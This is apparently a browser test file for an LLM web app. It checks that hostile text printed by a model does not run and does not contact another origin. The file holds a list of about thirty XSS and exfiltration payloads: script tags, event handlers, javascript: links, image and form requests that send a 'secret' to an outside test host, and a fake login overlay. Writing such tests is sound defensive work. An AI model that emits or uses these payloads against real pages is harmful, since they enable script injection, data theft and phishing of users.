"""A model that prints whatever could run or call out in a browser."""

import urllib.request

import pytest
from playwright.sync_api import expect

from llmfirst.events import PHASES
from llmfirst.ui.texts import TEXTS
from tests.browser.conftest import Open, Serve
from tests.browser.elsewhere import elsewhere
from tests.browser.served import endless
from tests.scripted import END, ScriptedProvider

pytestmark = [pytest.mark.browser, pytest.mark.slow]
_PAYLOADS = (
    "<script>window.ran = 1</script>",
    '<script src="{there}/script.js"></script>',
    '<img src="x" onerror="window.ran = 1">',
    '<img src="{there}/image.png?secret=1">',
    "![a picture]({there}/markdown.png?secret=1)",
    '<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>',
    '<svg><use href="{there}/use.svg#a"/><image href="{there}/image.svg"/></svg>',
    '<a href="javascript:window.ran = 1" id="link">a link</a>',
    "[a link](javascript:window.ran=1)",
    "<[a link](java\tscript:window.ran=1)>",
    '<iframe src="{there}/frame.html" srcdoc="<script>parent.ran = 1</script>"></iframe>',
    '<form action="{there}/form"><input name="secret" value="1"><button class="send">Send</button></form>',
    '<form action="javascript:window.ran = 1"><button type="submit" class="send">Go</button></form>',
    '<div style="position:fixed;inset:0;z-index:99999;background:white">Please log in</div>',
    '<style>body {{ background: url("{there}/style.png") }} #ask {{ display: none }}</style>',
    '<link rel="stylesheet" href="{there}/sheet.css">',
    '<button id="ask" onclick="window.ran = 1">Ask</button><button id="stop">Stop</button>',
    '<div id="question"><textarea>stolen</textarea></div><textarea id="run-id">forged</textarea>',
    '<meta http-equiv="refresh" content="0;url={there}/refresh">',
    '<base href="{there}/">',
    "$$\\href{{javascript:window.ran=1}}{{x}}$$ $$\\includegraphics{{{there}/latex.png}}$$",
    '<video src="{there}/video.mp4" autoplay></video><audio src="{there}/audio.mp3" autoplay></audio>',
    '<object data="{there}/object"></object><embed src="{there}/embed">',
    '<details open ontoggle="window.ran = 1">x</details><input autofocus onfocus="window.ran = 1">',
    '<form action="/api/stream"><input name="question" value="again"><button class="send">Go</button></form>',
    "![a picture](/api/stream?question=again)",
    "```html\n</code></pre><script>window.ran = 1</script>\n```",
    "<div style=\"background-image: url('{there}/background.png')\">x</div>",
    '<math><mtext><style><img src="x" onerror="window.ran = 1"></style></mtext></math>',
)
# What the browser says when it refuses, and images of this server that are none.
_REFUSED = (
    "Content Security Policy|request to another origin: http://localhost|404 for |status of 40[34]|403 for .*/api/"
)
_SPRING = """() => document.querySelectorAll('.panel :is(.send, button, a, summary)').forEach((trap) => {
  trap.removeAttribute('target'); trap.click(); })"""


def test_a_model_that_prints_hostile_text_runs_nothing_and_reaches_nobody(serve: Serve, visit: Open) -> None:
    with elsewhere() as there:
        urllib.request.urlopen(f"{there.url}/proof").close()
        assert there.asked.pop() == "/proof"
        text = "\n\n".join(payload.format(there=there.url) for payload in _PAYLOADS)
        pieces = [text[at : at + 30] for at in range(0, len(text), 30)]  # tags are seen half written
        # A section that repeats an earlier one would be ended; the plan is no section.
        rest = [f'Please log in <img src=x onerror="window.ran = {number}">' for number in (1, 2)]
        replies = [[text, END], [*pieces, END], *[[one, END] for one in rest]]
        served = serve(ScriptedProvider(*replies, ["plan", END], endless("word", 0.05)))
        page = visit(served.url)
        own_answers: list[tuple[str, int]] = []
        page.page.on("response", lambda one: "/api/stream" in one.url and own_answers.append((one.url, one.status)))

        def is_safe() -> None:
            assert page.page.evaluate("() => window.ran") is None
            assert there.asked == []
            assert all(status == 403 for _, status in own_answers), "the model's text asked a question of its own"
            assert page.page.url == f"{served.url}/?run={run_id}"
            assert page.page.locator("a[href^='javascript' i], .panel :is(iframe, script, base)").count() == 0
            page.forgive(_REFUSED)
            assert page.problems == []

        page.ask("Print script tags.")
        page.wait_for("#state", "Complete")
        run_id = page.run_id()
        for phase in PHASES:
            expect(page.page.locator(f"#panel-{phase}")).to_contain_text("Please log in")
        is_safe()
        page.page.evaluate(_SPRING)
        is_safe()
        page.reload()
        page.wait_for("#state", "Complete")
        is_safe()

        page.page.locator("#asking #question textarea").fill("why?")
        page.page.keyboard.press("Control+Enter")
        page.wait_for("#panel-core", "word1 word2")
        page.page.keyboard.press("Escape")
        page.wait_for("#state", "Stopped")
        run_id = page.run_id()
        is_safe()


def test_why_this_answer_shows_the_calls_as_they_were_and_runs_nothing_of_them(serve: Serve, visit: Open) -> None:
    with elsewhere() as there:
        payloads = [payload.format(there=there.url) for payload in _PAYLOADS]
        core = "\n\n".join(["\n</pre></details>", *payloads, "${window.ran = 1}", "{{window.ran}}", "<!-- -->", "$&"])
        page = visit(serve(ScriptedProvider(["plan", END], [core, END], ["a", END], ["b", END])).url)
        question = "<img src=x onerror='window.ran = 1'> why?"
        page.ask(question)
        page.wait_for("#state", "Complete")
        panel = page.page.locator("#why .why")
        expect(panel.locator("pre").first).not_to_be_visible()
        panel.locator("summary").first.focus()
        page.page.keyboard.press("Enter")
        expect(panel.locator("p").first).to_contain_text(
            f"{len(core) + len('planab'):,} characters shown was written by"
        )
        calls = panel.locator("details")
        expect(calls).to_have_count(len(PHASES))
        for at, (phase, reply) in enumerate(zip(PHASES, ["plan", core, "a", "b"], strict=True)):
            expect(calls.nth(at).locator("summary")).to_contain_text(
                f"{at + 1}. {TEXTS['en'].phases[phase]} · scripted"
            )
            calls.nth(at).locator("summary").click()
            expect(calls.nth(at).locator("pre").last).to_be_visible()
            drawn = calls.nth(at).locator("pre").evaluate_all("(all) => all.map((one) => one.textContent)")
            assert question in "".join(drawn[:-1])
            assert drawn[-1] == reply
        assert panel.locator(":not(details, summary, p, ul, li, h3, pre)").count() == 0
        assert page.page.evaluate("() => window.ran") is None
        assert there.asked == []
        page.forgive(_REFUSED)


def test_a_models_text_cannot_cover_the_buttons(serve: Serve, visit: Open) -> None:
    cover = '<div style="position:fixed;inset:0;z-index:99999;width:100vw;height:100vh;background:white">x</div>'
    page = visit(serve(ScriptedProvider(["plan", END], [cover, END], ["a", END], ["b", END])).url)
    page.ask("why?")
    page.wait_for("#state", "Complete")
    for button in ("ask", "stop"):
        top = (
            "(one) => { const b = one.getBoundingClientRect(); return document.elementFromPoint(b.x + 9, b.y + 9).id; }"
        )
        assert page.page.locator(f"#buttons #{button}").evaluate(top) == button
    expect(page.page.locator("#panel-details")).to_have_text("a")
